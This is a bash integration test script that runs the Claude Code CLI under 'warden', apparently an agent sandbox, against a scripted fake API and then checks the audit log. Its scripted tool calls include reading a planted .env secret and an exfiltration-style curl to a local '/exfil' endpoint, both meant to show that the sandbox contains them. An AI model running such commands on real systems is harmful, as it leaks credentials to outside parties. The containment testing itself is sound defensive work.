#!/usr/bin/env bash
# run_claude.sh WARDEN: the real Claude Code CLI, a short scripted session
# under `warden run --agent claude-code --tier passive`, offline.
#
#   1. installs @anthropic-ai/claude-code@$CLAUDE_VERSION with npm into
#      build/agents (once; later runs reuse it with no network);
#   2. starts tests/agents/fake_anthropic.py on 127.0.0.1 (the Messages API,
#      scripted: Bash `ls`, Bash `cat README.md`, Bash `cat .env`, "done");
#   3. makes a throw-away project (README.md, a .env holding a unique secret,
#      git init) and a throw-away HOME;
#   4. runs Claude Code under warden; when root, inside a new network
#      namespace that has only loopback, so nothing can leave the machine;
#   5. checks the audit (tests/agents/check_claude.py) and prints a summary.
#
# Exit: 0 every check passed, 1 a check failed, 77 skipped (no npm/node, or
# npm could not reach the registry), 2 bad usage.
#
# Environment: AGENTS_CACHE (default build/agents), CLAUDE_VERSION (2.1.197),
# AGENTS_TIER (passive, the default, or aggressive: the network checks hold
# in both; aggressive leaves `cat .env` out of the script, which it allows),
# KEEP=1 keeps the work directory, AGENTS_NETNS=0 skips the network
# namespace, AGENTS_TIMEOUT (seconds for the session, default 300).

set -uo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
ROOT=$(cd "$HERE/../.." && pwd)
CLAUDE_VERSION=${CLAUDE_VERSION:-2.1.197}
CACHE=${AGENTS_CACHE:-$ROOT/build/agents}
TIMEOUT=${AGENTS_TIMEOUT:-300}
TIER=${AGENTS_TIER:-passive}

# A checkout under /tmp (as CI may clone it): the CLI installed in it is
# the host's, which the session's private /tmp would not show; share it.
SHARE=()
case "$CACHE" in /tmp/* | /var/tmp/* | /dev/shm/*) SHARE=(--share-tmp "$CACHE") ;; esac

say() { printf '[test-agents] %s\n' "$*"; }
skip() {
	say "SKIP: $*"
	exit 77
}
secs_since() { awk -v a="$1" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }'; }
die() {
	say "FAIL: $*"
	exit 1
}

[ $# -eq 1 ] || {
	echo "usage: $0 WARDEN" >&2
	exit 2
}
WARDEN=$(realpath "$1" 2>/dev/null) && [ -x "$WARDEN" ] || {
	echo "$0: $1: not an executable" >&2
	exit 2
}

# ---- 1. the CLI, from the npm cache dir ----------------------------------------
# The npm package's postinstall copies the platform's native binary over
# bin/claude.exe; when install scripts did not run, that is a stub, and the
# platform package's binary is used directly.
find_claude() {
	local c
	for c in "$CACHE/node_modules/.bin/claude" \
		"$CACHE"/node_modules/@anthropic-ai/claude-code-linux-*/claude; do
		[ -x "$c" ] || continue
		if "$c" --version 2>/dev/null | grep -q "^$CLAUDE_VERSION "; then
			echo "$c"
			return 0
		fi
	done
	return 1
}

if [ "${AGENTS_TEST_PHASE:-}" != session ]; then
	T0=$(date +%s.%N)
	if ! CLAUDE=$(find_claude); then
		command -v node >/dev/null || skip "node is not installed (Claude Code needs Node >= 18)"
		command -v npm >/dev/null || skip "npm is not installed"
		mkdir -p "$CACHE"
		say "installing @anthropic-ai/claude-code@$CLAUDE_VERSION into $CACHE (node $(node --version))"
		if ! npm install --prefix "$CACHE" --no-audit --no-fund --loglevel=error \
			"@anthropic-ai/claude-code@$CLAUDE_VERSION" >"$CACHE/npm-install.log" 2>&1; then
			if grep -qE 'ENOTFOUND|EAI_AGAIN|ECONNREFUSED|ECONNRESET|ETIMEDOUT|ENETUNREACH|EHOSTUNREACH|network|proxy|certificate|self.signed|UNABLE_TO' \
				"$CACHE/npm-install.log"; then
				tail -5 "$CACHE/npm-install.log"
				skip "npm could not reach the registry (see $CACHE/npm-install.log)"
			fi
			tail -20 "$CACHE/npm-install.log"
			die "npm install failed (see $CACHE/npm-install.log)"
		fi
		CLAUDE=$(find_claude) || die "installed, but no claude binary in $CACHE answers --version with $CLAUDE_VERSION"
	fi
	export AGENTS_INSTALL_S
	AGENTS_INSTALL_S=$(secs_since "$T0")
	say "Claude Code $("$CLAUDE" --version 2>/dev/null) at $CLAUDE"

	# ---- 4a. into a network namespace with only loopback, when possible --------
	if [ "${AGENTS_NETNS:-1}" != 0 ] && [ "$(id -u)" = 0 ] && command -v unshare >/dev/null &&
		command -v ip >/dev/null && unshare -n true 2>/dev/null; then
		say "running the session in a new network namespace (loopback only): fully offline"
		exec unshare -n -- env AGENTS_TEST_PHASE=session AGENTS_TEST_NETNS=1 \
			bash -c 'ip link set lo up && exec bash "$0" "$1"' "${BASH_SOURCE[0]}" "$WARDEN"
	fi
	say "no network namespace (not root, or AGENTS_NETNS=0): offline only by configuration"
	export AGENTS_TEST_PHASE=session AGENTS_TEST_NETNS=0
	exec bash "${BASH_SOURCE[0]}" "$WARDEN"
fi

# ---- the session ------------------------------------------------------------------
CLAUDE=$(find_claude) || die "no claude $CLAUDE_VERSION in $CACHE"
WORK=$(mktemp -d /tmp/warden-agents.XXXXXX)
PROJ=$WORK/project
FAKE_HOME=$WORK/home
AUDIT=$WORK/audit.db
SRV_PID=
cleanup() {
	[ -n "$SRV_PID" ] && kill "$SRV_PID" 2>/dev/null
	if [ "${KEEP:-0}" = 1 ] || [ "${RESULT:-1}" != 0 ]; then
		say "work directory kept: $WORK (server log, audit, claude's output, its HOME)"
	else
		# and the CLI's own scratch directory for this project
		rm -rf "$WORK" "/tmp/claude-$(id -u)/$(printf '%s' "$PROJ" | tr '/.' '--')"
		rmdir "/tmp/claude-$(id -u)" 2>/dev/null
	fi
}
trap cleanup EXIT
mkdir -p "$PROJ" "$FAKE_HOME"
# The profile's places in HOME exist, as in a user's HOME after Claude
# Code's first run: warden lets the agent write those (Landlock), not the
# rest of HOME, which under /tmp is shown read-only in the session's
# private /tmp.
mkdir -p "$FAKE_HOME/.claude" "$FAKE_HOME/.cache/claude"
printf '{}\n' >"$FAKE_HOME/.claude.json"

SECRET="wdn-secret-$(od -An -N8 -tx1 /dev/urandom | tr -d ' \n')"
(
	cd "$PROJ" || exit 1
	printf '# Demo project\n\nA tiny project that warden'"'"'s agent test reads.\n' >README.md
	printf 'API_TOKEN=%s\n' "$SECRET" >.env
	printf 'int main(void) { return 0; }\n' >main.c
	git init -q . && git -c user.name=t -c user.email=t@t add README.md main.c &&
		git -c user.name=t -c user.email=t@t commit -q -m init
) || die "could not make the project"

# The fake API's last step is a tool call's curl to the fake API itself:
# under passive its exec is refused already, under aggressive the tier
# allows the exec and the connect is refused.
SCRIPT_ARGS=()
if [ "$TIER" = aggressive ]; then
	printf '["ls", "cat README.md", "cat .env", "curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary"]\n' |
		sed 's/"cat .env", //' >"$WORK/script.json"
	SCRIPT_ARGS=(--script "$WORK/script.json")
fi
python3 "$HERE/fake_anthropic.py" --port-file "$WORK/port" --log "$WORK/requests.jsonl" \
	"${SCRIPT_ARGS[@]}" 2>"$WORK/server.err" &
SRV_PID=$!
for _ in $(seq 100); do
	[ -s "$WORK/port" ] && break
	sleep 0.1
done
[ -s "$WORK/port" ] || die "the fake Anthropic server did not start: $(cat "$WORK/server.err")"
PORT=$(cat "$WORK/port")

# The environment is built from nothing: a throw-away HOME (warden's
# profile makes HOME/.claude* writable), the scripted server, no update
# check, no telemetry, no other traffic. IS_SANDBOX=1 lets root use
# --dangerously-skip-permissions. TMPDIR stays unset: the CLI's tool
# wrapper then writes its cwd file to /tmp/claude-HEX-cwd, the shape warden
# recognises.
CMD=("$WARDEN" run "${SHARE[@]}" --agent claude-code --tier "$TIER" --project "$PROJ" --audit "$AUDIT"
	-- "$CLAUDE" -p "list the files and read the README" --dangerously-skip-permissions
	--output-format text)
ENV=(HOME="$FAKE_HOME" USER="$(id -un)" PATH="$PATH" LANG=C.UTF-8 TERM=dumb
	IS_SANDBOX=1 ANTHROPIC_BASE_URL="http://127.0.0.1:$PORT" ANTHROPIC_API_KEY=test-key
	DISABLE_AUTOUPDATER=1 DISABLE_TELEMETRY=1 DISABLE_ERROR_REPORTING=1
	CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1)
say "project $PROJ, fake API on 127.0.0.1:$PORT"
say "running, in $PROJ:"
printf '    env -i'
printf ' %q' "${ENV[@]}" timeout -k 5 "$TIMEOUT" "${CMD[@]}"
printf '\n'

T1=$(date +%s.%N)
(cd "$PROJ" && env -i "${ENV[@]}" timeout -k 5 "$TIMEOUT" "${CMD[@]}" \
	</dev/null >"$WORK/claude.out" 2>"$WORK/claude.err")
RC=$?
SESSION_S=$(secs_since "$T1")
kill "$SRV_PID" 2>/dev/null
wait "$SRV_PID" 2>/dev/null
SRV_PID=

say "warden exited $RC after ${SESSION_S}s; claude's stdout: $(head -c 200 "$WORK/claude.out" | tr '\n' ' ')"
if [ -s "$WORK/claude.err" ]; then
	say "stderr (warden and claude):"
	sed 's/^/    /' "$WORK/claude.err" | head -20
fi

"$WARDEN" audit --audit "$AUDIT" --format json >"$WORK/audit.json" 2>"$WORK/audit.err" ||
	die "warden audit failed: $(cat "$WORK/audit.err")"
echo
echo "== the audit (trimmed)"
"$WARDEN" audit --audit "$AUDIT" | cut -c1-190 | sed -E 's/(SNAPSHOT_FILE=[^ ]{0,40})[^ ]*.*$/\1... (the snapshot script)/'
echo
echo "== warden audit --tool-calls"
"$WARDEN" audit --audit "$AUDIT" --tool-calls | cut -c1-190
echo

python3 "$HERE/check_claude.py" --audit-json "$WORK/audit.json" --requests "$WORK/requests.jsonl" \
	--stdout "$WORK/claude.out" --stderr "$WORK/claude.err" --rc "$RC" --secret "$SECRET" \
	--home "$FAKE_HOME" --port "$PORT" --tier "$TIER"
RESULT=$?
echo
say "times: npm install/check ${AGENTS_INSTALL_S:-?}s, session under warden ${SESSION_S}s;" \
	"network namespace: $([ "${AGENTS_TEST_NETNS:-0}" = 1 ] && echo yes || echo no)"
if [ "$RESULT" = 0 ]; then
	say "PASS: Claude Code $CLAUDE_VERSION ran under warden and every check held"
else
	say "FAIL: see the checks above"
fi
exit "$RESULT"
